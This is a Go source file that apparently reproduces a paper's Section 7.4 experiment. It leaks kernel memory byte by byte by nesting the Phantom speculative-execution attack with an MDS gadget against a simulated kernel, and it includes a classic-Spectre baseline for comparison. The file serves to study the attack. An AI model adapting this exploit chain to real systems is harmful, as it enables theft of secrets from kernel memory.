package core

import (
	"fmt"

	"phantom/internal/kernel"
	"phantom/internal/stats"
	"phantom/internal/telemetry"
)

// MDSLeakConfig tunes the Section 7.4 exploit.
type MDSLeakConfig struct {
	// ImageBase and PhysmapBase are the stage-1/2 results (the Section 7
	// chain recovers them; tests may pass ground truth to isolate this
	// stage).
	ImageBase   uint64
	PhysmapBase uint64
	// ReloadPhys is the physical address of the attacker's huge page
	// (the stage-3 result). HugeVA is its user mapping.
	ReloadPhys uint64
	HugeVA     uint64
	// Bytes is how much kernel memory to leak; see phantom.MDSBytes.
	Bytes int
}

// MDSLeakResult reports a kernel-memory leak run.
type MDSLeakResult struct {
	Leaked   []byte
	Accuracy stats.Accuracy
	Cycles   uint64
	Seconds  float64
	// BytesPerSecond at the nominal clock; the paper's 84 B/s includes
	// real-hardware retry overhead, so absolute values differ (see
	// EXPERIMENTS.md), but the channel structure is identical.
	BytesPerSecond float64
}

// LeakKernelMemory reproduces Section 7.4: leaking arbitrary kernel
// memory through an MDS gadget (Listing 4) nested with P3. The gadget
// performs only a *single* attacker-indexed load under a mispredicted
// bounds check — useless to classic Spectre — and Phantom supplies the
// second, secret-dependent load by hijacking the gadget's call
// instruction toward a disclosure gadget that indexes the attacker's
// reload buffer.
//
// startVA is the kernel virtual address to read from; the leak proceeds
// byte by byte for cfg.Bytes. Ground truth for the accuracy tally comes
// from reading the same range through the simulator's kernel view.
func LeakKernelMemory(k *kernel.Kernel, startVA uint64, cfg MDSLeakConfig) (*MDSLeakResult, error) {
	telemetry.CountExperiment("mds_leak")
	return leakKernelMemory(k, startVA, cfg, true)
}

// LeakKernelMemoryBaseline runs the same attack WITHOUT the nested
// Phantom injection: classic Spectre against the Listing 4 gadget. The
// wrong path still performs the attacker-indexed load, but the call goes
// to the real parse_data and no secret-dependent load follows, so the
// reload buffer stays cold — the paper's argument for why MDS gadgets
// were considered unexploitable on AMD before Phantom.
func LeakKernelMemoryBaseline(k *kernel.Kernel, startVA uint64, cfg MDSLeakConfig) (*MDSLeakResult, error) {
	return leakKernelMemory(k, startVA, cfg, false)
}

func leakKernelMemory(k *kernel.Kernel, startVA uint64, cfg MDSLeakConfig, injectPhantom bool) (*MDSLeakResult, error) {
	m := k.M
	a, err := NewAttack(k)
	if err != nil {
		return nil, err
	}
	if cfg.ImageBase == 0 || cfg.PhysmapBase == 0 || cfg.HugeVA == 0 {
		return nil, fmt.Errorf("core: MDS leak needs image base, physmap base and a reload buffer")
	}

	// Attacker-known addresses, all derived from the recovered image base
	// (kernel symbol offsets are public knowledge).
	victim := cfg.ImageBase + k.SymbolOffset("mds_call_site")
	disclosure := cfg.ImageBase + kernel.MDSDisclosureOff
	arrayBase := cfg.ImageBase + kernel.ArrayOff
	reloadKVA := cfg.PhysmapBase + cfg.ReloadPhys
	rb := reloadBuffer{m: m, va: cfg.HugeVA}

	res := &MDSLeakResult{}
	start := m.Cycle

	leakByte := func(kva uint64) (byte, bool, error) {
		// 1. Re-train the bounds check toward "in bounds" (the out-of-
		// bounds leak attempt itself pushes the direction predictor the
		// other way).
		for i := 0; i < 2; i++ {
			if err := a.Syscall(kernel.SysMDSRead, 5, reloadKVA); err != nil {
				return 0, false, err
			}
		}
		// 2. Inject the Phantom prediction at the call site (the
		// architectural calls of step 1 re-trained the BTB with the true
		// target, so this must come after). The classic-Spectre baseline
		// skips this step.
		if injectPhantom {
			if err := a.InjectPrediction(victim, disclosure); err != nil {
				return 0, false, err
			}
		}
		// 3. Flush the reload buffer.
		rb.flush()
		// 4. Fire: out-of-bounds index reaching the target byte.
		idx := kva - arrayBase
		if err := a.Syscall(kernel.SysMDSRead, idx, reloadKVA); err != nil {
			return 0, false, err
		}
		// 5. Reload scan.
		got, hit := rb.scan()
		return got, hit, nil
	}

	res.Leaked = make([]byte, cfg.Bytes)
	for i := 0; i < cfg.Bytes; i++ {
		kva := startVA + uint64(i)
		var got byte
		hit := false
		for attempt := 0; attempt < 3 && !hit; attempt++ {
			var err error
			got, hit, err = leakByte(kva)
			if err != nil {
				return nil, err
			}
		}
		res.Leaked[i] = got

		truth, err := k.M.KernelAS.Read8(kva)
		if err != nil {
			return nil, fmt.Errorf("core: reading ground truth: %w", err)
		}
		res.Accuracy.Add(hit && got == truth)
	}

	res.Cycles = m.Cycle - start
	res.Seconds = CyclesToSeconds(res.Cycles)
	res.BytesPerSecond = float64(cfg.Bytes) / res.Seconds
	return res, nil
}
